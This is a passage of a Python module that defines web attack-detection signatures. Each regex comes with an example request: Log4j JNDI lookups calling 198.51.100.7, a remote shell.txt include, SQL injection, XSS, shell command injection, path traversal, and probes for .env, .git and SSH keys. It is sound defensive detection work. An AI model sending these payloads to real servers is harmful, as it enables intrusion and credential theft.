"""What attacks look like in one request: a table. A new signature is one row with an example, which the tests send.

General constructions come before remembered lines: `union ... select` finds next year's payload too. Patterns meet
text whose encodings were undone (matching.plain), so they are written once: lower case, one space for many. Each
repetition is bounded, or what it repeats cannot match what follows: nobody may slow us down with a long address.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

# "raw" is the path as it was sent, encodings and all; "target" is path?query, only where there is a query.
Part = Literal["path", "query", "agent", "referer", "raw", "target"]

URL: tuple[Part, ...] = ("path", "query")
TARGET: tuple[Part, ...] = ("path", "target")
HEADERS: tuple[Part, ...] = ("agent", "referer")
ANYWHERE: tuple[Part, ...] = URL + HEADERS

EXPLOIT = "exploit"
SENSITIVE_FILE = "sensitive-file"
FOREIGN_SOFTWARE = "foreign-software"
SCANNER_AGENT = "scanner-agent"


@dataclass(frozen=True, slots=True)
class Signature:
    """One construction that nobody sends by accident."""

    name: str
    symptom: str
    where: tuple[Part, ...]
    pattern: str
    literals: tuple[str, ...]  # one must be there before the pattern is tried; letters and digits alone: a whole word
    reason: str
    example: str  # a request target, or the header's value
    unless_served: bool = False  # nothing to see where the site answered with the thing itself


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


SIGNATURES: tuple[Signature, ...] = (
    # --- exploits: injections, whatever software they are meant for -------------------------------------------------
    Signature(
        "jndi",
        EXPLOIT,
        ANYWHERE,
        r"\$\{\s*(?:jndi\s*:|(?:lower|upper|env|sys|java|main|ctx|date|base64|bundle|::)\s*:?|[^}]{0,40}\$\{)",
        ("${",),
        "A lookup that Log4j evaluates where it logs the text (CVE-2021-44228), also in its nested disguises.",
        "/?x=${${lower:j}ndi:ldap://198.51.100.7/a}",
    ),
    Signature(
        "expression-language",
        EXPLOIT,
        ANYWHERE,
        r"[$%#*]\{[^}]{0,200}(?:@java|@org\.|#_memberaccess|#context|getruntime|processbuilder|\d+\s*[*+]\s*\d+|class\b)"
        r"|java\.lang\.(?:runtime|process)|opensymphony|ognl\.|_memberaccess|multipart/form-data.{0,20}%\{",
        ("${", "%{", "#{", "*{", "lang", "opensymphony", "ognl", "memberaccess"),
        "Java expression languages (OGNL, SpEL, EL) reach the runtime: Struts, Confluence, Spring.",
        "/${(#a=@java.lang.Runtime@getRuntime().exec('id'))}/",
    ),
    Signature(
        "template-injection",
        EXPLOIT,
        URL,
        r"\{\{.{0,80}(?:\d+\s*\*\s*['\"]?\d+|__class__|__globals__|config\b|request\.|lipsum|cycler|_self\b|constructor)"
        r"|<%=?\s*\d+\s*\*\s*\d+|__(?:subclasses|globals|builtins|import)__",
        ("{{", "<%", "__"),
        "Template engines (Jinja, Twig, ERB) evaluate it; 7*7 is the usual first try.",
        "/search/?q={{7*7}}",
    ),
    Signature(
        "shellshock",
        EXPLOIT,
        ("query", "agent", "referer"),
        r"\(\)\s*\{.{0,20};",
        ("()",),
        "A function definition that an old bash runs when it reaches its environment (CVE-2014-6271).",
        "() { :; }; /bin/bash -c id",
    ),
    Signature(
        "path-traversal",
        EXPLOIT,
        URL,
        r"(?:\.{2,}(?:[\\/]+|0x2f|0x5c|%2f|%5c)(?:\./+)?){2,}"  # two steps up: some broken crawlers send one
        r"|(?:^|[\\/=])(?:\.\.\\|\.\.;[\\/])|\.\.[\\/]+(?:etc|windows|winnt|proc|web-inf|boot\.ini)\b"
        r"|(?:0x2e){2}|(?:^|/)\.{4,}[\\/]",
        ("..", "/0x2e"),
        "Steps out of the directory that is served. Browsers resolve them before they ask.",
        "/static/../../../app/settings.py",
    ),
    Signature(
        "encoded-traversal",
        EXPLOIT,
        ("raw",),
        r"(?:\.|%(?:25){0,4}2e|%(?:c0%ae|c0%2e|e0%80%ae|u002e)){2};?(?:%(?:25){0,4}(?:2f|5c)|%(?:c0%af|c1%9c|e0%80%af|u2215))"
        r"|(?:%(?:25){0,4}2e|%(?:c0%ae|c0%2e|e0%80%ae|u002e))(?:\.|%(?:25){0,4}2e|%(?:c0%ae|c0%2e|e0%80%ae|u002e))(?:[/\\;]|$)"
        r"|(?:^|/)\.%(?:25){0,4}2e(?:[/\\;]|$)",
        ("%2e", "%25", "%c0", "%u00", "%e0", "..%"),
        "A step up whose dots or slash are written in escapes, which only someone who hides it does.",
        "/%252e%252e%252fconsole",
    ),
    Signature(
        "system-file",
        EXPLOIT,
        URL,
        r"(?:^|[\\/=:.])etc[\\/]+(?:passwd|shadow|groups?|hosts|issue|sudoers|crontab)\b|proc[\\/]+(?:self|version|\d+)[\\/]"
        r"|\b(?:win|boot|system)\.ini\b|[\\/]windows[\\/]+system32|[\\/]system32[\\/]|(?:^|[\\/=])web-inf[\\/]"
        r"|/dev/cmdb/|/var/log/(?:auth|apache|nginx|mail|messages)|etcpasswd\b",
        _words("passwd shadow group groups hosts issue sudoers crontab etcpasswd proc ini system32 inf cmdb log"),
        "A file of the operating system or of the application server, asked for by name.",
        "/download?file=/etc/passwd",
    ),
    Signature(
        "stream-wrapper",
        EXPLOIT,
        URL,
        r"(?:^|[=/('\"])(?:php|expect|phar|zlib|glob|gopher|dict|ldaps?|jar|netdoc|input|ogg|ssh2|rar|compress\.zlib)://"
        r"|(?:^|[='\"])file:/|data:[a-z/+;-]{0,40}base64,(?=.{0,40}pd9waha)",
        ("://", "file:", "base64"),
        "A stream that PHP or Java opens as if it were a file: reads code, runs commands, reaches inner hosts.",
        "/?page=php://filter/convert.base64-encode/resource=index",
    ),
    Signature(
        "remote-file",
        EXPLOIT,
        ("query",),
        r"=\s*(?:https?|ftps?)://[^&\s]{1,200}(?:\.(?:txt|php\d?|gif|jpg|png|dat|inc)\?+|\?{2,})\s*(?:$|&)",
        ("://",),
        "A script at another host to be included; the closing question mark cuts off what the victim appends.",
        "/index.php?page=http://198.51.100.7/shell.txt?",
    ),
    Signature(
        "cloud-metadata",
        EXPLOIT,
        URL,
        r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|latest/meta-data",
        _words("169 metadata 100 meta"),
        "The address where a cloud host gives out its own credentials: the aim of request forgery.",
        "/fetch?url=http://169.254.169.254/latest/meta-data/",
    ),
    Signature(
        "sql-union",
        EXPLOIT,
        URL,
        r"\bunion\b[\s(+]*(?:all|distinct)?[\s(+]*\bselect\b[\s(+]*(?:$|all\b|distinct|null|n?char|concat|['\"\d@*-]"
        r"|[\w.@]{1,40}\s*(?:,|\(|\bfrom\b))",
        ("union",),
        "A second query joined to the first to read other tables.",
        "/products/?id=1+UNION/**/ALL+SELECT+null,version()--",
    ),
    Signature(
        "sql-condition",
        EXPLOIT,
        URL,
        r"\b(?:or|and|xor|having|where|rlike|when|not|if)\b[\s('\"%+!-]*(?:\d+|'[^']{0,40}'|\"[^\"]{0,40}\")[\s)'\"]*"
        r"(?:=|<>|!=|<|>|\blike\b)[\s('\"%]*(?:\d|['\"]|\(?select\b|\w{1,40}\s*\()"
        r"|['\"]\s*(?:or|and|\|\||&&)\s*['\"(]*\w{0,40}['\")]*\s*(?:=|<>|!=|\blike\b)\s*['\"(]"
        r"|['\"]\s*(?:or|and)\s+(?:\d+|true|not\s+false)\s*(?:--|#|/\*|$)"
        r"|\b(?:and|or)\s+(?:elt|row|ascii|ord|exists|length|updatexml|extractvalue|if|char_length|make_set)\s*\("
        r"|['\"=]\s*\*?\s*(?:rlike|regexp|sounds\s+like)\s*[('\"]",
        _words("or and xor having where rlike regexp when sounds not if || &&"),
        "A condition that is always true, or asks one bit at a time, put behind the value.",
        "/products/?id=1'+OR+'1'='1",
    ),
    Signature(
        "sql-function",
        EXPLOIT,
        URL,
        r"\b(?:sleep|pg_sleep|benchmark|randomblob|load_file|extractvalue|updatexml|xp_cmdshell|sp_password|xmltype"
        r"|utl_(?:http|inaddr)|dbms_\w{1,40}|generate_series|group_concat|convert_from|sqlid_to_sqlhash|ctxsys|elt"
        r"|receive_message|regexp_substring|regexp_like|make_set)\s*(?:\(|\.)|waitfor\s+(?:delay|time)\b"
        r"|\buser_lock\.sleep|\bprocedure\s+analyse\b",
        _words("sleep benchmark randomblob extractvalue updatexml cmdshell password xmltype utl dbms generate concat")
        + _words("convert sqlid ctxsys elt receive regexp make waitfor analyse file"),
        "Database functions that wait, fail loudly or reach out, so that a blind attacker learns something.",
        "/products/?id=1;SELECT+pg_sleep(5)",
    ),
    Signature(
        "sql-subquery",
        EXPLOIT,
        URL,
        r"\(\s*select\b[\s(]*(?:['\"\d@*]|\w{1,40}\s*[,(*]|\w{1,40}\s+(?:from|where)\b|case\b|count|concat|char)"
        r"|\bselect\b\s*(?:\*|@@\w|count\(|char\(|concat\(|\d+\s+from\b)|\bselect\s*\(?\s*case\s+when\b"
        r"|\bcase\s+when\s*\(|\biif\s*\(\s*\d|\bif\s*\(\s*\d+\s*=\s*\d+|\bconvert\s*\(\s*int\b",
        _words("select case iif if convert"),
        "A query inside the value.",
        "/products/?id=(SELECT+count(*)+FROM+users)",
    ),
    Signature(
        "sql-schema",
        EXPLOIT,
        URL,
        r"\binformation_schema\b|\bsqlite_master\b|\bpg_catalog\b|\bmysql\.user\b|\bsysibm\.|\brdb\$|\bsys(?:objects|columns"
        r"|databases|users)\b|\ball_tables\b|\bmsysaccessobjects\b|\bdomain\.(?:domains|tables)\b|\bmaster\.\."
        r"|\binto\s+(?:out|dump)file\b|\bfrom\s+dual\b",
        _words(
            "information sqlite pg mysql sysibm rdb sysobjects syscolumns sysdatabases sysusers all msysaccessobjects"
        )
        + _words("domain master outfile dumpfile dual"),
        "The tables that describe the tables, or a query's result written to disk.",
        "/products/?id=1+from+information_schema.tables",
    ),
    Signature(
        "sql-stacked",
        EXPLOIT,
        URL,
        r"['\")\d\s];\s*(?:begin|drop|insert|update|delete|alter|create|exec|execute|declare|shutdown|truncate|select|call"
        r"|grant)\b(?:\s+(?:table|into|user|database|or|from|master|function|procedure|column|@)|[\s('\"*@]*[\w.@]{1,40}"
        r"\s*(?:\(|=|,|\bset\b|\bfrom\b|--))",
        (";",),
        "A second statement behind the first.",
        "/products/?id=1';DROP+TABLE+users--",
    ),
    Signature(
        "sql-breakout",
        EXPLOIT,
        URL,
        r"['\"]\s*\)*\s*(?:--[\s-]*$|--\s*&|#\s*$|/\*)|['\")\d]\s*(?:order|group)\s+by\s+\d+\s*(?:--|#|,|$)"
        r"|['\"]\s*\|\|\s*(?:\(|['\"]|\w{1,40}\s*\()|['\"]\s*\+\s*\(|,\s*null\s*,\s*null|\|\|\s*chr\s*\(|\bchr?\(\d+\)\s*(?:\|\||\+)"
        r"|['\"]\s*\)*\s+(?:as\s+\w{1,20}\s+)?where\s+\d+\s*=|\b(?:in\s+boolean\s+mode)\b"
        r"|\b(?:ascii|ord|substr|substring|substrc|mid|unhex|md5|hex|upper|lower|distinct|selectchar|char|chr|cast)\s*\(\s*"
        r"(?:$|\(?select\b|0x|(?:n?char|user|database|version|current_user|@@\w+)\b)",
        ("--", "#", "/*", "||", "by", "null", "chr", "char", "where", "boolean", "+(", "+ (")
        + _words("ascii ord substr substring substrc mid unhex md5 hex upper lower distinct selectchar cast"),
        "The quote closed and the rest of the query cut off or joined on.",
        "/products/?id=1')--",
    ),
    Signature(
        "script-injection",
        EXPLOIT,
        ANYWHERE,
        r"<\s*/?\s*(?:script|iframe|bgsound|frameset|object|embed|applet|xss|noscript)\b|<\s*\?(?:import|xml)"
        r"|<\s*\w+[^>]{0,200}?[\s/\"'`]on[a-z]{3,20}\s*=|[\"'`]\s*(?:style|on[a-z]{3,20})\s*=\s*[\"'`]?[a-z(]"
        r"|(?:^|[=\"'`(\s:])(?:java|vb|live|mocha)script\s*:|[=\"'`]\s*mocha:|data\s*:\s*text/html|\bexpression\s*\("
        r"|\bexpr/\*|string\.?\[?'?fromcharcode|document\s*\.\s*(?:cookie|write|location|domain)|-o-link"
        r"|\b(?:alert|prompt|confirm|eval)\s*\(\s*(?:['\"/`\d]|document|string|window|this|[a-z]{1,20}\))"
        r"|<\s*(?:img|svg|body|base|link|meta|style|input|details|video|audio|math|marquee|a|div|xml|html)\b[^>]{0,200}"
        r"(?:(?:src|href|style|data|background|content|datasrc|action)\s*=|>)(?=.{0,300}(?:script|alert|xss|url\(|expr|//))",
        ("<", "script", "javascript", "vbscript", "mocha", "expression", "fromcharcode", "document", "link", "alert")
        + ("prompt", "confirm", "eval", "text/html", "expr", "on"),
        "Markup or code that would run in another visitor's browser.",
        "/search/?q=<svg/onload=alert(1)>",
    ),
    Signature(
        "shell-command",
        EXPLOIT,
        ANYWHERE,
        r"(?:[;|&`\n]|\$\()\s*(?:/(?:usr/)?s?bin/)?(?:wget|curl|tftp|busybox|nslookup|chmod|uname|whoami|ifconfig|ipconfig|"
        r"netcat|nc|rm|cat|echo|ping|sleep|powershell|bash|sh|cmd|dir|cd|python\d?|perl)\b[\s+]*(?:-\w|/|\$|https?:|\d{1,3}\b"
        r"|[a-z]:|['\"`]|\|)"
        r"|(?:[;|&`\n]|\$\()\s*(?:id|ls|pwd|whoami|uname|env|set|true)\s*[`)|;]|[;|&]\s*(?:/usr)?/bin/\w|;\s*(?:id|whoami)\s*$"
        r"|\bcd\s*/tmp|\brm\s+-rf|\bchmod\s+[+0-7]|\bwget\s+(?:-\w+\s+)*https?:|\bcurl\s+(?:-\w+\s+)*https?:|(?:^|[=\s;|&])"
        r"/(?:usr/)?bin/\w{1,12}[;|&]|/bin/(?:ba|da|z|k|c|tc)?sh\b|\bcmd(?:\.exe)?\s*/c\b|\bpowershell(?:\.exe)?\s+-"
        r"|\$\{?ifs\b|;\s*\w{0,10}sh\s+-[ci]\b",
        (
            ";",
            "|",
            "`",
            "$(",
            "&&",
            "&+",
            "& ",
            "\n",
            "bin",
            "cmd",
            "powershell",
            "ifs",
            "tmp",
            "rm",
            "chmod",
            "wget",
            "curl",
        ),
        "A command for the shell behind a separator.",
        "/ping?host=127.0.0.1;cat+/etc/issue",
    ),
    Signature(
        "php-code",
        EXPLOIT,
        ANYWHERE,
        r"<\?(?:php|=|\s*(?:echo|system))|\b(?:shell_exec|passthru|proc_open|popen|pcntl_exec|phpinfo|call_user_func"
        r"|file_put_contents|file_get_contents|base64_decode|gzinflate|str_rot13|create_function|assert|eval|system|md5"
        r"|print_r|die|fwrite)\s*\(\s*['\"$@a-z(\d)]|\bcall_user_func_array\b|allow_url_(?:include|fopen)|auto_(?:prepend|append)"
        r"_file|disable_functions|\$_(?:get|post|request|server|cookie)\b|\bpearcmd\b.{0,20}config-create|\+config-create\+",
        _words(
            "php exec passthru popen proc phpinfo func call contents decode gzinflate rot13 create assert eval system md5"
        )
        + _words("print die fwrite allow auto disable get post request server cookie pearcmd pcntl")
        + ("<?",),
        "PHP to be run by a careless include, eval or upload.",
        "/index.php?cmd=<?php+system('id');?>",
    ),
    Signature(
        "xml-entity",
        EXPLOIT,
        URL,
        r"<!(?:doctype|entity)\b|<!\[cdata\[",
        ("<!",),
        "An XML document that defines entities, which a careless parser resolves to files and hosts.",
        "/api/?xml=<!ENTITY+x+SYSTEM+'file:///etc/hostname'>",
    ),
    Signature(
        "header-injection",
        EXPLOIT,
        URL,
        r"[\r\n]+\s*(?:set-cookie|location|content-(?:type|length)|host|x-[a-z-]{2,20}|http/1\.[01])\s*:?",
        ("\r", "\n"),
        "A line break that would start a header or a second answer.",
        "/go?to=%0d%0aSet-Cookie:+a=b",
    ),
    Signature(
        "deserialisation",
        EXPLOIT,
        ANYWHERE,
        r"\bo:\d{1,3}:\"[\w\\]{1,80}\":\d|(?:^|[=\s])ro0ab[xq]|\baced0005|__reduce__|!!python/|\byso\w*serial",
        ("o:", "ro0abx", "ro0abq", "ro0ab", "aced0005", "reduce", "python", "ysoserial"),
        "A serialised object that runs code while it is read.",
        '/?data=O:8:"Evil\\Gadget":1:{}',
    ),
    Signature(
        "prototype-pollution",
        EXPLOIT,
        URL,
        r"__proto__|constructor[\[.]+prototype",
        _words("proto prototype"),
        "Changes every object of a JavaScript server.",
        "/?__proto__[admin]=1",
    ),
    Signature(
        "open-proxy",
        EXPLOIT,
        ("path",),
        r"^(?:https?:)?//[^/]{1,200}:\d{1,5}(?:/|$)|^(?:[\w-]{1,60}\.){1,8}[a-z]{2,20}:\d{1,5}$|^\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?$"
        r"|^https?://[^/]{1,200}/\S{0,100}(?:azenv|judge|proxy|prx|ip\d?|check|headers?)\w{0,20}\.(?:php\d?|cgi|txt|html?|jsp|aspx?)\b",
        (":", "."),
        "Another host's full address: someone tries whether this server fetches pages for strangers.",
        "http://judge.example:80/ip.php",
    ),
    Signature(
        "http-version",
        EXPLOIT,
        ("path",),
        r"^[a-z]{3,10} \S{1,400} http/\d{1,3}(?:\.\d{1,3})?$",
        ("http",),
        "A version of HTTP that does not exist (the others are taken off the path): flood tools vary what they can.",
        "GET / HTTP/1.2",
    ),
    # --- exploits: of one product, each known by its own path --------------------------------------------------------
    Signature(
        "phpunit",
        EXPLOIT,
        ("path",),
        r"/eval-stdin\.php|/phpunit/(?:src/)?util/php/",
        _words("phpunit stdin"),
        "PHPUnit's runner of code from the request body (CVE-2017-9841).",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    ),
    Signature(
        "thinkphp",
        EXPLOIT,
        URL,
        r"invokefunction|[\\/]think[\\/](?:app|container|view|module|config|request|template|lang)\b|\blang=.{0,10}\.\./.{0,80}pearcmd",
        _words("invokefunction think pearcmd"),
        "ThinkPHP calls any function that the route names (CVE-2018-20062).",
        "/index.php?s=/Index/\\think\\app/invokefunction&function=phpinfo",
    ),
    Signature(
        "spring-binding",
        EXPLOIT,
        URL,
        r"class\.module\.classloader|classloader[.\[](?:resources|urls|default|parent)|spring\.cloud\.function",
        _words("classloader spring"),
        "Request parameters bound to the class loader (Spring4Shell, CVE-2022-22965).",
        "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    ),
    Signature(
        "spring-gateway",
        EXPLOIT,
        ("path",),
        r"/actuator/gateway/routes|/actuator/(?:restart|refresh|jolokia|shutdown)\b",
        _words("actuator"),
        "Spring's management routes that change the running application (CVE-2022-22947).",
        "/actuator/gateway/routes/new",
    ),
    Signature(
        "java-server",
        EXPLOIT,
        ("path",),
        r"/wls-wsat/|/_async/asyncresponseservice|/invoker/(?:jmx|ejb)invokerservlet|/jmxinvokerservlet|/jmx-console/htmladaptor"
        r"|/console/(?:css|images)/.{0,20}\.\.|/bea_wls_deployment|/descriptorbyname/.{0,80}(?:script|groovy|check)"
        r"|/webtools/control/(?:programexport|xmlrpc|main|forgotpassword/)|/struts2?-?(?:showcase|rest-showcase)/|/geoserver/.{0,20}wfs.{0,20}exec"
        r"|/nacos/v\d/(?:auth|cs)/|/solr/\w{1,40}/(?:config|dataimport|debug/dump)\b|/ws/v1/cluster/apps|/jolokia/|/hystrix;",
        _words(
            "wls asyncresponseservice invoker jmxinvokerservlet jmx console bea descriptorbyname webtools struts struts2"
        )
        + _words("showcase geoserver nacos solr cluster jolokia hystrix"),
        "Entrances of Java servers (WebLogic, JBoss, Jenkins, OFBiz, Nacos, Solr, YARN) that ran code for strangers.",
        "/wls-wsat/CoordinatorPortType",
    ),
    Signature(
        "confluence",
        EXPLOIT,
        TARGET,
        r"/setup/setupadministrator|/setup/(?:setup|finishsetup)[\w-]*\.action|/server-info\.action\?|bootstrapstatusprovider"
        r"|/pages/createpage-entervariables\.action|/json/setup-restore|/template/aui/text-inline\.vm",
        _words("setupadministrator setup bootstrapstatusprovider createpage inline action"),
        "Confluence's set-up left open (CVE-2023-22515 and kin).",
        "/setup/setupadministrator.action",
    ),
    Signature(
        "laravel-ignition",
        EXPLOIT,
        ("path",),
        r"/_ignition/(?:execute-solution|share-report|update-config)",
        ("ignition",),
        "Laravel's error page runs what it is sent (CVE-2021-3129).",
        "/_ignition/execute-solution",
    ),
    Signature(
        "vpn-appliance",
        EXPLOIT,
        TARGET,
        r"/tmui/.{0,60}(?:\.\.;|workspace|hsqldb)|/mgmt/(?:tm/util/bash|shared/authn)|/vpns/(?:portal|cfg|services|scripts)"
        r"|/remote/(?:fgt_lang|hostcheck_validate|logincheck|error)\b|sslvpn_websession|/dana-(?:na|ws|cached)/.{0,80}\.\."
        r"|/dana(?:-na|-ws)?/.{0,60}(?:meeting|totp|saml20|xmlrpc)|/api/v1/totp/user-backup-code|/\+cscot\+/(?:oem|translation)"
        r"|/\+csco\w\+/.{0,40}\.\.|/ssl-vpn/(?:hipreport|getconfig)|/global-protect/(?:\.\.|portal/images/\S+\.php)"
        r"|/sslvpn/.{0,40}(?:;|\.\.)|/oauth/idp/\.well-known/openid.{0,40}|/cgi-bin/(?:dispatcher|ztp/cgi-bin|jarrewrite)"
        r"|/clients/mycrl|/php/utils/createremoteappwebsession|/webui/logoutconfirm\.html\?|/api/v2/cmdb/",
        _words(
            "tmui mgmt vpns remote websession sslvpn dana totp cscot cscoe csco ssl global oauth dispatcher ztp jarrewrite"
        )
        + _words("mycrl createremoteappwebsession webui cmdb fgt"),
        "F5, Citrix, Fortinet, Pulse, Cisco, Palo Alto: appliances at the edge, and the paths of their holes.",
        "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp",
    ),
    Signature(
        "router",
        EXPLOIT,
        TARGET,
        r"/boaform/|/boafrm/|/gponform/|/goform/(?!$)|/ctrlt/deviceupgrade|/picsdesc\.xml|/wanipcn\.xml|/sdk/weblanguage|/cgi-bin/"
        r"(?:luci/;?stok|luci/.{0,60}(?:\$\(|`)|mainfunction|nas_sharing|account_mgr|system_mgr|kerbynet|rpc|supervisor|"
        r"execute_cmd|hi3510)|(?:setup|apply|board|diagnostic|tmunblock|hnap1?|shell)\.?(?:cgi)?\?.{0,80}(?:cmd|command|exec|"
        r"todo=|ping)|/language/swedish|/device\.rsp\?|/hnap1/.{0,30}soap|next_file=.{0,40}todo=|todo=syscmd|/apply_sec|/ubus/"
        r"|/linuxki/|/web_shell_cmd|/stssys\.htm|/fcgi-bin/|/currentsetting\.htm",
        _words(
            "boaform boafrm gponform goform deviceupgrade picsdesc wanipcn sdk luci mainfunction nas account system kerbynet"
        )
        + _words(
            "rpc supervisor cmd hi3510 setup apply board diagnostic tmunblock hnap1 swedish device todo ubus linuxki"
        )
        + _words("stssys fcgi currentsetting"),
        "Home routers, cameras and storage boxes, and the forms that botnets enter them by.",
        "/boaform/admin/formLogin?username=admin&psd=admin",
    ),
    Signature(
        "php-cgi",
        EXPLOIT,
        URL,
        r"/php-?cgi(?:\.exe)?\b|/cgi-bin/php\d?(?:\.cgi|-cgi)?\b|^[-\s\ufffd\xad]+d\s*[+\s]*(?:allow_url|auto_prepend|cgi\.|disable)",
        _words("cgi allow auto phpcgi php"),
        "PHP run as CGI takes its switches from the query (CVE-2012-1823, CVE-2024-4577).",
        "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1",
    ),
    Signature(
        "shell-path",
        EXPLOIT,
        ("path",),
        r"^/?(?:cgi-bin/)?(?:\.*/)*bin/(?:ba|da|z|k|c)?sh$|^/shell$",
        _words("sh bash dash zsh ksh csh shell"),
        "The shell asked for as if it were a page.",
        "/bin/sh",
    ),
    Signature(
        "web-shell",
        EXPLOIT,
        ("path",),
        r"(?:^|[/_.-])(?:web)?(?:shell|c99\w*|r57\w*|wso\w*|b374k|cmd|alfa|alfa-?rex\w*|alfacgiapi|backdoor|webshell|antichat|weevely"
        r"|indoxploit|gelay|fierza|marijuana|madspot|fox-?wso|mini-?shell|adminer-shell|k2ll33d|priv8|hacked|uploader"
        r"|symlink|leafmailer|alexus|xleet|gecko-?litespeed|0byt3)\d*\.(?:php\d?|phtml|aspx?|ashx|jspx?|cfm|pl)\b",
        _words(
            "shell c99 c99shell r57 r57shell wso wso1 wso2 b374k cmd alfa alfarex alfacgiapi backdoor webshell antichat weevely"
        )
        + _words(
            "indoxploit gelay fierza marijuana madspot fox minishell k2ll33d priv8 hacked uploader symlink leafmailer"
        )
        + _words("alexus xleet gecko 0byt3 rex mini litespeed"),
        "A back door that an earlier attacker may have left: the next one looks for it.",
        "/wp-content/uploads/wso.php",
        unless_served=True,
    ),
    Signature(
        "exchange",
        EXPLOIT,
        TARGET,
        r"/autodiscover/autodiscover\.json.{0,40}(?:@|powershell|mapi)|/ecp/(?:proxylogon|y\.js|default\.flt|\w{1,20}\.js$)"
        r"|/owa/auth/(?!logon|errorfe|1[0-9]\.)[\w-]{1,20}\.(?:js|aspx)$|/mapi/nspi|/powershell/?\?x-rps-cat",
        _words("autodiscover ecp owa mapi powershell"),
        "Microsoft Exchange: ProxyLogon and ProxyShell.",
        "/autodiscover/autodiscover.json?@evil.example/owa/&Email=a",
    ),
    Signature(
        "admin-product",
        EXPLOIT,
        TARGET,
        r"/guestaccess\.aspx|/moveitisapi/|/human2?\.aspx|/setupwizard\.aspx/|/remote_agent\.php|/ajax/render/widget_tabbed"
        r"|element_parents=|/user/register\?.{0,40}ajax|/cms_wysiwyg/directive|/webadmin/(?:scripts|out)|/zimbraadmin/.{0,40}\.\."
        r"|/service/extension/backup|/sitecore/shell/.{0,40}report|/telerik\.web\.ui\.webresource\.axd\?type=rau|/lucee/admin/imgprocess"
        r"|/cfide/.{0,60}(?:locale=|\.\.|wizards)|/containers/(?:json|create)|/v\d\.\d\d/(?:containers|images)/|/druid/indexer"
        r"|/users/sign_in.{0,10}exif|/uploads/user$|/_users/org\.couchdb|/_config/query_servers|/scripts/setup\.php|/pma/scripts",
        _words(
            "guestaccess moveitisapi human human2 setupwizard remote render parents register directive webadmin zimbraadmin"
        )
        + _words("extension sitecore telerik lucee cfide containers images druid couchdb servers scripts"),
        "Products for administrators with a hole of their own: MOVEit, ScreenConnect, Cacti, vBulletin, Drupal, Docker...",
        "/pma/scripts/setup.php",
    ),
    # --- files that hold secrets ------------------------------------------------------------------------------------
    Signature(
        "dotenv",
        SENSITIVE_FILE,
        ("path",),
        r"/\.?env(?:\.[\w.-]{1,30}|[~_-][\w.-]{0,20}|\d)?$|/\.env\b|/\.envrc\b|[\w-]\.env(?:\.\w{1,12})?$",
        _words("env envrc env1 env2 env_"),
        "The file where frameworks keep passwords and keys.",
        "/api/.env.production",
        unless_served=False,
    ),
    Signature(
        "version-control",
        SENSITIVE_FILE,
        ("path",),
        r"/\.(?:git(?:ignore|attributes|modules|hub|lab-ci\.yml)?|svn|hg|bzr|cvs|cvsignore|hgignore|gitlab-ci)(?:[/.]|$)|/cvs/(?:root|entries)$",
        _words("git gitignore gitattributes gitmodules github gitlab svn hg bzr cvs cvsignore hgignore"),
        "A repository left beside the site gives out the source and its history.",
        "/.git/config",
    ),
    Signature(
        "key-file",
        SENSITIVE_FILE,
        ("path",),
        r"/\.?(?:id_(?:rsa|dsa|ecdsa|ed25519)|identity|authorized_keys|known_hosts)(?:\.\w{1,8})?$|\.(?:pem|ppk|pfx|p12|jks|keystore"
        r"|kdbx|ovpn|asc|gpg)$|/(?:server|private|ssl|privkey|host|tls|secret|jwt|localhost)[\w.-]{0,20}\.key$|/\.ssh\b|/\.gnupg\b",
        _words(
            "rsa dsa ecdsa ed25519 identity keys hosts pem ppk pfx p12 jks keystore kdbx ovpn asc gpg key ssh gnupg"
        ),
        "A private key.",
        "/.ssh/id_rsa",
        unless_served=True,
    ),
    Signature(
        "account-file",
        SENSITIVE_FILE,
        ("path",),
        r"/\.(?:aws|azure|docker|kube|gcloud|boto|s3cfg|npmrc|yarnrc|pypirc|netrc|pgpass|my\.cnf|htpasswd|htaccess|htdigest|composer"
        r"|git-credentials|mysql_history|psql_history|bash_history|zsh_history|sh_history|history|bashrc|bash_profile|zshrc"
        r"|profile|viminfo|rhosts|forward|passwd|subversion|wget-hsts|config|cache|dbeaver|remote-sync|ftpconfig|ftppass"
        r"|sftp-config|vscode|idea|terraform|travis\.yml|circleci|ds_store)\b|/sftp(?:-config)?\.json$|/filezilla\.xml$",
        _words(
            "aws azure docker kube gcloud boto s3cfg npmrc yarnrc pypirc netrc pgpass cnf htpasswd htaccess htdigest composer"
        )
        + _words(
            "credentials history bashrc bash zshrc profile viminfo rhosts forward passwd subversion wget config cache"
        )
        + _words("dbeaver remote ftpconfig ftppass sftp vscode idea terraform travis circleci ds filezilla zsh"),
        "Files of somebody's home directory or editor: credentials, history, hosts.",
        "/.aws/credentials",
        unless_served=True,
    ),
    Signature(
        "settings-file",
        SENSITIVE_FILE,
        ("path",),
        r"/(?:wp-config|configuration|config(?:\.inc|\.local|uration)?|settings(?:\.local|\.inc)?|local|localsettings|database|db|connect"
        r"|parameters|env|app|secrets?|credentials|local_settings|production|prod|application|bootstrap|master|serviceaccount"
        r"|firebase|aws|s3|smtp|mail|sendgrid|twilio|stripe|constants)[\w-]{0,20}(?:\.(?:php|inc|yml|yaml|json|py|xml|ini|env|js|"
        r"properties|toml|conf|cfg|txt))?(?:\.(?:bak|old|save|swp|orig|dist|txt|backup|copy|tmp|1|zip)|~)$"
        r"|/wp-config[\w.-]*$|/(?:web|app|machine)\.config$|/appsettings[\w.]*\.json$|/(?:application|bootstrap)[\w-]*\.(?:ya?ml"
        r"|properties)$|/(?:database|secrets?|credentials|parameters|config)\.(?:ya?ml|ini|env|properties|toml|cfg)$"
        r"|/(?:secrets?|credentials|serviceaccountkey|service-account|aws|aws-credentials|smtp|sendgrid|twilio|stripe)"
        r"[\w-]{0,20}\.(?:json|txt|ya?ml|env)$|/(?:docker-compose|compose)[\w.-]{0,20}\.ya?ml$|/dockerfile$|/terraform\.tfstate"
        r"|/(?:local_)?settings\.py$|/config/(?:database|secrets|master)\b|/composer\.(?:json|lock)$|/\w+\.tfvars$|/config\.(?:js|json)\.",
        _words(
            "wp config configuration settings local localsettings database db connect parameters app secret secrets credentials"
        )
        + _words(
